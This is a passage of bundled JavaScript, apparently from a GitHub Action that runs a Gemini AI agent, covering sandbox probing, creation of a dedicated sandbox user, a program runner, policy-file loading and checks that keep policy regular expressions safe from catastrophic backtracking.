    const sudo = await (options.run ?? run_program/* runProgram */.m)([...(options.sudo ?? DEFAULT_SUDO), 'true'], {
        timeoutMs: 10_000,
    });
    // Set up with sudo when it is there: root can drop supplementary groups, a user namespace cannot.
    return sudo.exitCode === 0 ? ['sudo', 'userns'] : ['userns'];
}
function probe(key, options, create) {
    if (options.run !== undefined)
        return create();
    const cacheKey = JSON.stringify([key, actionOwner(options), options.userName, options.sudo]);
    let found = probes.get(cacheKey);
    if (found === undefined) {
        found = create();
        probes.set(cacheKey, found);
    }
    return found;
}
function namespaceConfig(elevation, user, options) {
    return {
        elevation,
        action: actionOwner(options),
        env: options.env,
        run: options.run ?? run_program/* runProgram */.m,
        logger: options.logger,
        ...(user ? { user } : {}),
        ...(options.sudo ? { sudo: options.sudo } : {}),
    };
}
async function probeNamespace(elevation, options) {
    const run = options.run ?? run_program/* runProgram */.m;
    let user;
    if (elevation === 'root' && actionOwner(options).uid === 0) {
        const found = await (0,sandbox_user/* ensureSandboxUser */.j)(run, { name: options.userName });
        if ('problem' in found)
            options.logger.debug(`Sandbox: ${found.problem}`);
        else
            user = found;
    }
    // The probe hides only what every machine has; real sessions use the run's environment.
    const config = { ...namespaceConfig(elevation, user, options), env: { PATH: options.env.PATH } };
    const problem = await tryOnce(run, (workspaceRoot) => openNamespaceSession(config, { workspaceRoot, isolateNetwork: false }));
    if (problem !== undefined)
        return { works: false, problem };
    return user ? { works: true, user } : { works: true };
}
function namespaceSandbox(elevation, user, options) {
    const config = namespaceConfig(elevation, user, options);
    return {
        kind: user !== undefined ? 'namespace+user' : 'namespace',
        ...namespaceDescription({ elevation, user, actionUser: actionOwner(options).name }),
        canIsolateNetwork: true,
        open: (session) => openNamespaceSession(config, session),
    };
}
async function probeUser(options) {
    const run = options.run ?? run_program/* runProgram */.m;
    const action = actionOwner(options);
    if (action.uid !== 0) {
        return {
            works: false,
            problem: 'a separate user needs the Action to run as root (with namespaces, sudo serves instead)',
        };
    }
    const user = await (0,sandbox_user/* ensureSandboxUser */.j)(run, { name: options.userName });
    if ('problem' in user)
        return { works: false, problem: user.problem };
    const config = { user, action, run, logger: options.logger };
    const problem = await tryOnce(run, (workspaceRoot) => openUserSession(config, { workspaceRoot, isolateNetwork: false }));
    return problem === undefined ? { works: true, user } : { works: false, problem };
}
function userSandbox(user, options) {
    const config = {
        user,
        action: actionOwner(options),
        run: options.run ?? run_program/* runProgram */.m,
        logger: options.logger,
    };
    return {
        kind: 'user',
        ...userDescription(user),
        canIsolateNetwork: false,
        open: (session) => openUserSession(config, session),
    };
}
/**
 * Sets the sandbox up on an empty directory and runs one command in it; the problem when either
 * fails, undefined when both worked.
 */
async function tryOnce(run, open) {
    const workspaceRoot = await (0,promises_.mkdtemp)(external_node_path_default().join(external_node_os_default().tmpdir(), 'gemini-sandbox-probe-'));
    let session;
    try {
        session = await open(workspaceRoot);
        const command = await session.wrap({
            argv: ['sh', '-c', 'echo ok > probe && cat probe'],
            env: { PATH: process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
            cwd: workspaceRoot,
        });
        const result = await run(command.argv, {
            env: command.env,
            cwd: command.cwd,
            timeoutMs: 20_000,
        });
        if (result.exitCode !== 0 || result.stdout.trim() !== 'ok') {
            return `a command in it failed: ${(0,run_program/* failureText */.k)(result)}`;
        }
        return undefined;
    }
    catch (error) {
        return (0,errors/* errorMessage */.gJ)(error);
    }
    finally {
        await session?.close();
        await (0,promises_.rm)(workspaceRoot, { recursive: true, force: true });
    }
}


/***/ }),

/***/ 17583:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   k: () => (/* binding */ failureText),
/* harmony export */   m: () => (/* binding */ runProgram)
/* harmony export */ });
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(31421);
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_child_process__WEBPACK_IMPORTED_MODULE_0__);
/**
 * Runs a helper program (unshare, chown, useradd…) to its end: an argument list, never a shell,
 * with a time limit so a program waiting for something (a sudo password prompt) cannot hang the
 * run.
 */

const DEFAULT_TIMEOUT_MS = 30_000;
const runProgram = (argv, options = {}) => {
    const [command, ...args] = argv;
    if (command === undefined)
        return Promise.resolve({ exitCode: null, stdout: '', stderr: '' });
    return new Promise((resolve) => {
        (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.execFile)(command, args, {
            env: options.env ?? { PATH: process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin' },
            cwd: options.cwd ?? '/',
            timeout: options.timeoutMs ?? DEFAULT_TIMEOUT_MS,
            killSignal: 'SIGKILL',
            maxBuffer: 1024 * 1024,
            encoding: 'utf8',
        }, (error, stdout, stderr) => {
            if (error === null) {
                resolve({ exitCode: 0, stdout, stderr });
                return;
            }
            const code = error.code;
            if (typeof code === 'number') {
                resolve({ exitCode: code, stdout, stderr });
                return;
            }
            resolve({
                exitCode: null,
                stdout,
                stderr,
                error: error.killed ? `timed out or was killed` : error.message,
            });
        });
    });
};
/** The program's own words about a failure, for messages: stderr, else the error, else the code. */
function failureText(result) {
    const stderr = result.stderr.trim().split('\n').slice(-3).join(' ').trim();
    if (stderr !== '')
        return stderr;
    if (result.error !== undefined)
        return result.error;
    return `exit code ${result.exitCode ?? '(none)'}`;
}


/***/ }),

/***/ 9332:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   f: () => (/* binding */ SANDBOX_MODES),
/* harmony export */   k: () => (/* binding */ sandboxSummaryLine)
/* harmony export */ });
/**
 * The sandbox every command run on the model's behalf goes through. The model is assumed hostile:
 * whatever a tool process can reach, the model can print. A sandbox decides what that is.
 */
const SANDBOX_MODES = ['auto', 'namespace', 'user', 'none'];
/** The one line the log and the job summary show about the sandbox of a run. */
function sandboxSummaryLine(sandbox, options) {
    const network = sandbox.kind === 'none'
        ? ''
        : options.isolateNetwork && sandbox.canIsolateNetwork
            ? ' Network: off.'
            : ' Network: on.';
    const gaps = sandbox.gaps.filter((gap) => !(options.isolateNetwork && sandbox.canIsolateNetwork && gap.startsWith('Network')));
    return `Sandbox: ${sandbox.kind}. ${sandbox.describe}${network} Not protected: ${gaps.join(' ')}`;
}


/***/ }),

/***/ 62014:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   G: () => (/* binding */ SANDBOX_USER_NAME),
/* harmony export */   j: () => (/* binding */ ensureSandboxUser)
/* harmony export */ });
/* harmony import */ var _run_program_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(17583);

const SANDBOX_USER_NAME = 'gemini-agent-sandbox';
/** Finds or creates the sandbox user; undefined with the reason when neither works. */
async function ensureSandboxUser(run, options = {}) {
    const name = options.name ?? SANDBOX_USER_NAME;
    const existing = await lookUpUser(run, name);
    if (existing !== undefined)
        return { name, ...existing, dedicated: true };
    const attempts = [
        // shadow-utils (Debian, Ubuntu, Fedora): a system account with its own group.
        [
            'useradd',
            '--system',
            '--user-group',
            '--no-create-home',
            '--home-dir',
            '/nonexistent',
            '--shell',
            '/usr/sbin/nologin',
            name,
        ],
        // BusyBox (Alpine).
        ['adduser', '-S', '-D', '-H', '-h', '/nonexistent', '-s', '/sbin/nologin', name],
    ];
    const problems = [];
    for (const argv of attempts) {
        const result = await run(argv);
        // Another process may have created it meanwhile: whether it exists now is what counts.
        const created = await lookUpUser(run, name);
        if (created !== undefined)
            return { name, ...created, dedicated: true };
        problems.push(`${argv[0] ?? ''}: ${(0,_run_program_js__WEBPACK_IMPORTED_MODULE_0__/* .failureText */ .k)(result)}`);
    }
    if (options.allowNobody !== false) {
        const nobody = await lookUpUser(run, 'nobody');
        if (nobody !== undefined && nobody.uid !== 0) {
            return { name: 'nobody', ...nobody, dedicated: false };
        }
    }
    return { problem: `cannot create the user ${name} (${problems.join('; ')})` };
}
async function lookUpUser(run, name) {
    const uid = await run(['id', '-u', name]);
    const gid = await run(['id', '-g', name]);
    const uidNumber = Number(uid.stdout.trim());
    const gidNumber = Number(gid.stdout.trim());
    if (uid.exitCode !== 0 || gid.exitCode !== 0)
        return undefined;
    if (!Number.isInteger(uidNumber) || !Number.isInteger(gidNumber))
        return undefined;
    return { uid: uidNumber, gid: gidNumber };
}


/***/ }),

/***/ 5535:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   sX: () => (/* binding */ geminiCommandText),
/* harmony export */   wW: () => (/* binding */ argumentTexts)
/* harmony export */ });
/* unused harmony export stableStringify */
/* harmony import */ var _tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(86949);
/**
 * The texts `argsPattern`, `commandPrefix` and `commandRegex` are matched against. A policy file
 * written for the Gemini CLI must mean here what it means there, so besides our own text (the
 * arguments under their declared names, key-sorted JSON) a call is also written the way the
 * Gemini CLI writes it:
 * - under the Gemini CLI's current argument names (`file_path` for `read_file`, `dir_path` for
 *   listing, search and the shell; see `tools/parameter-aliases.ts`);
 * - with its field markers: every top-level `"key":value` pair between NUL characters, so a
 *   pattern written as `\0"file_path":"x"\0` finds it (see the Gemini CLI's stable-stringify.ts).
 * The Gemini CLI matches `commandPrefix` and `commandRegex` in that text too, right after
 * `"command":"` (its policy/utils.ts, buildArgsPatterns), which is what `geminiCommandText` is for.
 */

/**
 * Arguments as JSON with object keys sorted at every depth and no whitespace, so a pattern sees
 * the same text whatever order the model sent the keys in. `undefined` members are left out (as
 * `JSON.stringify` does); a cycle (impossible for parsed JSON) is written as `"[Circular]"`.
 * With `markTopLevel`, each top-level pair stands between NUL characters, as the Gemini CLI writes
 * it.
 */
function stableStringify(value, options = {}) {
    const ancestors = new Set();
    const write = (current, topLevel) => {
        if (current === undefined || typeof current === 'function')
            return 'null';
        if (current === null || typeof current !== 'object')
            return JSON.stringify(current);
        if (ancestors.has(current))
            return '"[Circular]"';
        ancestors.add(current);
        try {
            if (Array.isArray(current))
                return `[${current.map((item) => write(item, false)).join(',')}]`;
            const record = current;
            const members = Object.keys(record)
                .sort()
                .filter((key) => record[key] !== undefined && typeof record[key] !== 'function')
                .map((key) => {
                const pair = `${JSON.stringify(key)}:${write(record[key], false)}`;
                return topLevel ? `\0${pair}\0` : pair;
            });
            return `{${members.join(',')}}`;
        }
        finally {
            ancestors.delete(current);
        }
    };
    return write(value, options.markTopLevel === true);
}
/**
 * Every text an `argsPattern` is tried on: ours, and the Gemini CLI's (its names, with and
 * without its markers). A rule's pattern matches when it is found in any of them.
 */
function argumentTexts(toolName, args) {
    const gemini = (0,_tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__/* .withGeminiNames */ .w)(toolName, args);
    return [
        ...new Set([
            stableStringify(args),
            stableStringify(gemini),
            stableStringify(gemini, { markTopLevel: true }),
        ]),
    ];
}
/**
 * The text the Gemini CLI matches a shell command's `commandPrefix` and `commandRegex` in: the
 * whole call's arguments for the whole command, `{command, dir_path}` for each part of it.
 */
function geminiCommandText(args, part) {
    const gemini = (0,_tools_parameter_aliases_js__WEBPACK_IMPORTED_MODULE_0__/* .withGeminiNames */ .w)('run_shell_command', args);
    const subject = part === undefined ? gemini : { command: part, dir_path: gemini.dir_path ?? undefined };
    return stableStringify(subject, { markTopLevel: true });
}


/***/ }),

/***/ 74996:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   IO: () => (/* binding */ describeRule),
/* harmony export */   eK: () => (/* binding */ ruleLocation),
/* harmony export */   fB: () => (/* binding */ ruleOrigin)
/* harmony export */ });
/* unused harmony export formatPriority */
/** `3.100`: the final priority as the engine orders rules. */
function formatPriority(rule) {
    return rule.effectivePriority.toFixed(3);
}
/** `file:line:column`. */
function ruleLocation(rule) {
    return `${rule.source.file}:${rule.source.line}:${rule.source.column}`;
}
/** `file:line:column (tier, priority 3.100)`: which rule decided, for verdicts and events. */
function ruleOrigin(rule) {
    return `${ruleLocation(rule)} (${rule.source.tier}, priority ${formatPriority(rule)})`;
}
/**
 * `policies/ci.toml:4:1  priority 3.100  allow  run_shell_command  commandPrefix ["npm test"]`:
 * where the rule is, its final priority, its decision, the tools it names (`*` for every tool)
 * and each condition it has.
 */
function describeRule(rule) {
    const tools = rule.toolNames ? rule.toolNames.join(',') : '*';
    const conditions = ruleConditions(rule);
    return [
        ruleLocation(rule),
        `priority ${formatPriority(rule)}`,
        rule.decision,
        tools,
        ...conditions,
    ].join('  ');
}
function ruleConditions(rule) {
    const list = (values) => JSON.stringify(values);
    const parts = [];
    if (rule.mcpName !== undefined)
        parts.push(`mcpName ${JSON.stringify(rule.mcpName)}`);
    if (rule.commandPrefixes)
        parts.push(`commandPrefix ${list(rule.commandPrefixes)}`);
    if (rule.commandRegex)
        parts.push(`commandRegex /${rule.commandRegex.source}/`);
    if (rule.argsPattern)
        parts.push(`argsPattern /${rule.argsPattern.source}/`);
    if (rule.pathPatterns)
        parts.push(`pathPattern ${list(rule.pathPatterns)}`);
    if (rule.excludedPaths)
        parts.push(`excludedPaths ${list(rule.excludedPaths)}`);
    if (rule.toolAnnotations)
        parts.push(`toolAnnotations ${JSON.stringify(rule.toolAnnotations)}`);
    if (rule.approvalModes)
        parts.push(`modes ${list(rule.approvalModes)}`);
    if (rule.interactive !== undefined)
        parts.push(`interactive ${String(rule.interactive)}`);
    if (rule.runModes)
        parts.push(`runModes ${list(rule.runModes)}`);
    if (rule.trust)
        parts.push(`trust ${list(rule.trust)}`);
    if (rule.maxCalls !== undefined)
        parts.push(`maxCalls ${rule.maxCalls}`);
    if (rule.allowRedirection !== undefined)
        parts.push(`allowRedirection ${String(rule.allowRedirection)}`);
    if (rule.denyMessage !== undefined)
        parts.push(`denyMessage ${JSON.stringify(rule.denyMessage)}`);
    return parts;
}


/***/ }),

/***/ 86403:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   IO: () => (/* reexport safe */ _describe_rule_js__WEBPACK_IMPORTED_MODULE_5__.IO),
/* harmony export */   eK: () => (/* reexport safe */ _describe_rule_js__WEBPACK_IMPORTED_MODULE_5__.eK),
/* harmony export */   gC: () => (/* binding */ loadPolicyFiles)
/* harmony export */ });
/* unused harmony exports mergePolicies, sortRules */
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(51455);
/* harmony import */ var node_fs_promises__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__webpack_require__.n(node_fs_promises__WEBPACK_IMPORTED_MODULE_0__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(46316);
/* harmony import */ var _parse_policy_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(58691);
/* harmony import */ var _policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(5226);
/* harmony import */ var _describe_rule_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(74996);
/**
 * Reading policy files from disk: each file (or each `.toml` file of a directory) is parsed at its
 * tier, every problem of every file is reported in one {@link PolicyFileError}, and the rules come
 * out in the order the engine tries them: highest final priority first, ties in file order and
 * then in the order written. This is the policy's only I/O.
 */






async function loadPolicyFiles(specs) {
    const files = [];
    const rules = [];
    const problems = [];
    const warnings = [];
    for (const spec of specs) {
        for (const file of await expand(spec)) {
            const text = await readPolicyText(file.path, file.file);
            const checked = (0,_parse_policy_js__WEBPACK_IMPORTED_MODULE_3__/* .checkPolicy */ .hM)(text, { file: file.file, tier: spec.tier });
            problems.push(...checked.problems);
            warnings.push(...checked.warnings.map(_policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__/* .formatProblem */ .V));
            rules.push(...checked.rules);
            files.push({ ...file, tier: spec.tier, ruleCount: checked.rules.length });
        }
    }
    if (problems.length > 0)
        throw new _policy_file_error_js__WEBPACK_IMPORTED_MODULE_4__/* .PolicyFileError */ .z(problems);
    return { rules: sortRules(rules), files, warnings };
}
/** Several loaded policies as one (e.g. a preset and the repository's files). */
function mergePolicies(...policies) {
    return {
        rules: sortRules(policies.flatMap((policy) => policy.rules)),
        files: policies.flatMap((policy) => policy.files),
        warnings: policies.flatMap((policy) => policy.warnings),
    };
}
/** Highest final priority first; `sort` is stable, so equal priorities keep the given order. */
function sortRules(rules) {
    return [...rules].sort((a, b) => b.effectivePriority - a.effectivePriority);
}
async function expand(spec) {
    const label = spec.label ?? spec.path;
    let isDirectory;
    try {
        isDirectory = (await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.stat)(spec.path)).isDirectory();
    }
    catch (error) {
        throw unreadable(spec.path, label, error);
    }
    if (!isDirectory)
        return [{ path: spec.path, file: label }];
    const names = (await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readdir)(spec.path)).filter((name) => name.endsWith('.toml')).sort();
    return names.map((name) => ({ path: (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(spec.path, name), file: (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(label, name) }));
}
async function readPolicyText(path, label) {
    try {
        // A byte-order mark is not TOML, and editors do not count it as a column.
        return (await (0,node_fs_promises__WEBPACK_IMPORTED_MODULE_0__.readFile)(path, 'utf8')).replace(/^\uFEFF/, '');
    }
    catch (error) {
        throw unreadable(path, label, error);
    }
}
function unreadable(path, label, error) {
    const code = error?.code;
    const message = code === 'ENOENT'
        ? `policy file not found: expected a TOML policy file at ${path}`
        : code === 'EISDIR'
            ? `policy file is a directory: expected a TOML policy file at ${path}`
            : `cannot read policy file ${path}: ${(0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .errorMessage */ .gJ)(error)}`;
    return new _platform_errors_js__WEBPACK_IMPORTED_MODULE_2__/* .ConfigurationError */ .j1(message, { file: label }, { cause: error });
}


/***/ }),

/***/ 58691:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Wn: () => (/* reexport */ SHELL_TOOL_NAME),
  hM: () => (/* binding */ checkPolicy)
});

// UNUSED EXPORTS: APPROVAL_MODES, TOOLS_TABLE_PRIORITY, parsePolicy

// EXTERNAL MODULE: ./node_modules/smol-toml/dist/index.js + 8 modules
var dist = __webpack_require__(3292);
// EXTERNAL MODULE: ./src/policy/policy-file-error.ts
var policy_file_error = __webpack_require__(5226);
// EXTERNAL MODULE: ./src/policy/policy-types.ts
var policy_types = __webpack_require__(45578);
// EXTERNAL MODULE: ./src/tools/registry.ts
var registry = __webpack_require__(64988);
;// CONCATENATED MODULE: ./src/policy/rule-fields.ts
/**
 * Reading the fields of one policy table: each reader checks the type and range of one key and,
 * when it is wrong, reports a problem at that key (or at the array entry at fault) saying what was
 * expected, then returns `undefined` so the caller carries on and every problem of a file is found
 * in one pass.
 */

/**
 * The value of `key`, also accepted under `alias` (e.g. the Gemini CLI's older snake_case names).
 * Writing both is reported, since the two could disagree.
 */
function find(context, key, alias) {
    const has = (name) => Object.prototype.hasOwnProperty.call(context.table, name);
    if (alias !== undefined && has(alias)) {
        if (has(key)) {
            context.report([...context.path, alias], `${alias} and ${key} are the same field; keep only ${key}`);
            return undefined;
        }
        return { key: alias, value: context.table[alias], path: [...context.path, alias] };
    }
    if (!has(key))
        return undefined;
    return { key, value: context.table[key], path: [...context.path, key] };
}
function isTable(value) {
    return (typeof value === 'object' && value !== null && !Array.isArray(value) && !(value instanceof Date));
}
/** `"x" (a string)`, `5 (an integer)`, `an array`, … for "but is …" in messages. */
function describeValue(value) {
    if (typeof value === 'string')
        return `${JSON.stringify(value)} (a string)`;
    if (typeof value === 'number') {
        return `${String(value)} (${Number.isInteger(value) ? 'an integer' : 'a float'})`;
    }
    if (typeof value === 'boolean')
        return `${String(value)} (a boolean)`;
    if (Array.isArray(value))
        return 'an array';
    if (value instanceof Date)
        return 'a date';
    return isTable(value) ? 'a table' : typeof value;
}
/** `"a", "b" or "c"`. */
function quoteChoices(choices) {
    const quoted = choices.map((choice) => JSON.stringify(choice));
    if (quoted.length <= 1)
        return quoted.join('');
    return `${quoted.slice(0, -1).join(', ')} or ${quoted[quoted.length - 1] ?? ''}`;
}
/**
 * The candidate `input` was most likely meant as: the same name in another case or with `_`/`-`
 * (`tool_name` → `toolName`), or one within a few typing mistakes.
 */
function closestName(input, candidates) {
    const fold = (name) => name.toLowerCase().replace(/[_-]/g, '');
    const folded = fold(input);
    const same = candidates.find((candidate) => fold(candidate) === folded);
    if (same !== undefined)
        return same;
    // A shortened name (`ask` for `ask_user`).
    const extended = candidates.filter((candidate) => fold(candidate).startsWith(folded));
    if (folded.length >= 3 && extended.length === 1)
        return extended[0];
    const limit = Math.max(1, Math.floor(folded.length / 3));
    let best;
    for (const candidate of candidates) {
        const distance = (0,registry/* editDistance */.Y)(folded, fold(candidate));
        if (distance <= limit && (!best || distance < best.distance))
            best = { name: candidate, distance };
    }
    return best?.name;
}
function didYouMean(input, candidates) {
    const closest = closestName(input, candidates);
    return closest === undefined ? '' : `; did you mean "${closest}"?`;
}
/**
 * A field `input` is the end of (`prefix` for `commandPrefix`, `pattern` for `argsPattern`): a
 * condition written short. Only for five letters or more, so `name` stays a name of its own.
 */
function shortenedName(input, candidates) {
    const folded = input.toLowerCase().replace(/[_-]/g, '');
    if (folded.length < 5)
        return undefined;
    const matches = candidates.filter((candidate) => candidate.toLowerCase().replace(/[_-]/g, '').endsWith(folded));
    return matches.length === 1 ? matches[0] : undefined;
}
/** Reports every key the table does not accept, with the likeliest intended name. */
function checkKeys(context, check) {
    const aliases = check.aliases ?? {};
    for (const key of Object.keys(context.table)) {
        if (check.known.includes(key) || key in aliases)
            continue;
        const explained = check.explain?.(key);
        const candidates = [...check.known, ...Object.keys(aliases)];
        const shortened = shortenedName(key, candidates);
        const suggestion = shortened === undefined ? didYouMean(key, candidates) : `; did you mean "${shortened}"?`;
        if (explained === undefined && suggestion === '' && check.ignoreUnknown) {
            check.ignoreUnknown([...context.path, key], key);
            continue;
        }
        context.report([...context.path, key], explained ??
            (suggestion === ''
                ? `unknown field "${key}" in ${check.where}; expected one of: ${check.known.join(', ')}`
                : `unknown field "${key}" in ${check.where}${suggestion}`));
    }
}
function readString(context, key, options = {}) {
    const found = find(context, key, options.alias);
    if (!found)
        return undefined;
    if (typeof found.value !== 'string') {
        context.report(found.path, `${found.key} must be a string, but is ${describeValue(found.value)}`);
        return undefined;
    }
    if (options.nonEmpty && found.value.trim() === '') {
        context.report(found.path, `${found.key} must not be empty`);
        return undefined;
    }
    return found.value;
}
function readBoolean(context, key, options = {}) {
    const found = find(context, key, options.alias);
    if (!found)
        return undefined;
    if (typeof found.value !== 'boolean') {
        context.report(found.path, `${found.key} must be true or false, but is ${describeValue(found.value)}`);
        return undefined;
    }
    return found.value;
}
function readInteger(context, key, range) {
    const found = find(context, key);
    if (!found)
        return undefined;
    const { value } = found;
    if (typeof value !== 'number' ||
        !Number.isInteger(value) ||
        value < range.min ||
        value > range.max) {
        const shown = typeof value === 'number' ? String(value) : describeValue(value);
        const extra = typeof value === 'number' && value > range.max && range.tooLarge
            ? ` (${range.tooLarge})`
            : '';
        context.report(found.path, `${found.key} must be ${range.expected}, but is ${shown}${extra}`);
        return undefined;
    }
    return value;
}
function readChoice(context, key, choices) {
    const found = find(context, key);
    if (!found)
        return undefined;
    const { value } = found;
    if (typeof value === 'string' && choices.includes(value))
        return value;
    const hint = typeof value === 'string' ? didYouMean(value, choices) : '';
    context.report(found.path, `${found.key} must be ${quoteChoices(choices)}, but is ${describeValue(value)}${hint}`);
    return undefined;
}
/** A string or an array of strings (the Gemini CLI accepts both for list fields). */
function readStringList(context, key, options) {
    const found = find(context, key, options.alias);
    if (!found)
        return undefined;
    const entries = Array.isArray(found.value)
        ? found.value.map((value, index) => ({ value, path: [...found.path, index] }))
        : [{ value: found.value, path: found.path }];
    if (!Array.isArray(found.value) && typeof found.value !== 'string') {
        context.report(found.path, `${found.key} must be a ${options.noun} or an array of them, but is ${describeValue(found.value)}`);
        return undefined;
    }
    if (entries.length === 0) {
        if (options.emptyMessage !== undefined)
            context.report(found.path, options.emptyMessage);
        return undefined;
    }
    let ok = true;
    const values = [];
    for (const entry of entries) {
        const problem = typeof entry.value !== 'string'
            ? `${found.key} entries must be strings (${options.noun}s), but one is ${describeValue(entry.value)}`
            : entry.value.trim() === ''
                ? (options.blankMessage ?? `${found.key} entries must not be empty`)
                : options.check?.(entry.value);
        if (problem !== undefined) {
            context.report(entry.path, problem);
            ok = false;
        }
        else if (typeof entry.value === 'string') {
            values.push(entry.value);
        }
    }
    return ok ? values : undefined;
}
/** A list of fixed words (run modes, trust levels, approval modes), as a string or an array. */
function readChoiceList(context, key, choices, options = {}) {
    const list = readStringList(context, key, {
        noun: 'string',
        ...(options.emptyMessage !== undefined ? { emptyMessage: options.emptyMessage } : {}),
        check: (entry) => choices.includes(entry)
            ? undefined
            : `${key} entries must be ${quoteChoices(choices)}, but one is ${JSON.stringify(entry)}${didYouMean(entry, choices)}`,
    });
    return list;
}
function readTable(context, key) {
    const found = find(context, key);
    if (!found)
        return undefined;
    if (!isTable(found.value)) {
        context.report(found.path, `${found.key} must be a table such as { readOnlyHint = true }, but is ${describeValue(found.value)}`);
        return undefined;
    }
    return found.value;
}
/** Whether the table has `key` (or its alias) at all. */
function hasField(context, key, alias) {
    const has = (name) => Object.prototype.hasOwnProperty.call(context.table, name);
    return has(key) || (alias !== undefined && has(alias));
}
/** The name the field is written under in this table (for messages about it). */
function writtenName(context, key, alias) {
    return alias !== undefined && Object.prototype.hasOwnProperty.call(context.table, alias)
        ? alias
        : key;
}

// EXTERNAL MODULE: ./node_modules/safe-regex2/index.js
var safe_regex2 = __webpack_require__(38700);
var safe_regex2_default = /*#__PURE__*/__webpack_require__.n(safe_regex2);
;// CONCATENATED MODULE: ./src/policy/regex-safety.ts
/**
 * Regular expressions from policy files run against every tool call the model makes, so a pattern
 * prone to catastrophic backtracking would let a hostile model stall the run with one crafted
 * argument. Patterns are compiled as JavaScript RegExps (no flags, as the Gemini CLI does) and
 * refused when `safe-regex2` cannot show them safe (it limits the star height to 1: no repetition
 * inside a repeated group). The refusal names the group at fault and suggests a rewrite.
 */

/** Longer patterns are refused outright: nobody needs them, and they are expensive to match. */
const MAX_PATTERN_LENGTH = 2048;
/** More repetition operators than this in one pattern are refused (the checker's own limit). */
const MAX_REPETITIONS = 25;
/**
 * Compiles `pattern`. On failure `problem` completes a sentence that starts with the field and the
 * pattern, e.g. `argsPattern "(a+)+$" ` + problem.
 */
function compileSafeRegex(pattern) {
    let regex;
    try {
        regex = new RegExp(pattern);
    }
    catch (error) {
        const reason = error instanceof Error ? error.message : String(error);
        return {
            ok: false,
            problem: `is not a valid JavaScript regular expression: ${stripPatternEcho(reason)}`,
        };
    }
    if (pattern.length > MAX_PATTERN_LENGTH) {
        return {
            ok: false,
            problem: `is ${pattern.length} characters long; patterns may have at most ${MAX_PATTERN_LENGTH}`,
        };
    }
    const analysable = withoutLookbehind(pattern);
    if (safe_regex2_default()(analysable, { limit: MAX_REPETITIONS }))
        return { ok: true, regex };
    return { ok: false, problem: explainUnsafe(pattern, analysable) };
}
function explainUnsafe(pattern, analysable) {
    const nested = findNestedRepetition(pattern);
    if (nested) {
        return (`can take exponential time on text that almost matches (catastrophic backtracking): ` +
            `the group "${nested.group}" repeats a pattern that itself repeats, so the regex engine ` +
            `tries every way of splitting the text between the two repetitions. Rewrite it so that no ` +
            `repeated group contains another repetition, for example ${nested.suggestion}`);
    }
    if (safe_regex2_default()(analysable, { limit: Number.POSITIVE_INFINITY })) {
        return (`has more than ${MAX_REPETITIONS} repetition operators (*, +, ?, {n,m}), which makes its ` +
            `matching time hard to bound; split it into simpler patterns or rules`);
    }
    return (`cannot be shown safe from catastrophic backtracking; simplify it (no repetition inside a ` +
        `repeated group, no lookbehind containing repetitions)`);
}
/**
 * The checker does not understand lookbehind (`(?<=…)`, `(?<!…)`) and would refuse every pattern
 * with one; as plain groups they keep their contents, and so their nesting, for the analysis.
 */
function withoutLookbehind(pattern) {
    let result = '';
    for (const token of tokens(pattern)) {
        result += token.kind === 'open' && /^\(\?<[=!]$/.test(token.text) ? '(?:' : token.text;
    }
    return result;
}
/** Splits a pattern into the pieces that matter for nesting: groups, quantifiers and atoms. */
function* tokens(pattern) {
    let index = 0;
    let afterAtom = false;
    while (index < pattern.length) {
        const start = index;
        const char = pattern.charAt(index);
        if (char === '\\') {
            index += 2;
            afterAtom = true;
            yield { kind: 'escape', text: pattern.slice(start, index), start };
            continue;
        }
        if (char === '[') {
            index += 1;
            while (index < pattern.length && pattern.charAt(index) !== ']') {
                index += pattern.charAt(index) === '\\' ? 2 : 1;
            }
            index += 1;
            afterAtom = true;
            yield { kind: 'class', text: pattern.slice(start, index), start };
            continue;
        }
        if (char === '(') {
            const prefix = /^\((?:\?(?:[:=!]|<[=!]|<[A-Za-z_$][\w$]*>))?/.exec(pattern.slice(index));
            index += prefix ? prefix[0].length : 1;
            afterAtom = false;
            yield { kind: 'open', text: pattern.slice(start, index), start };
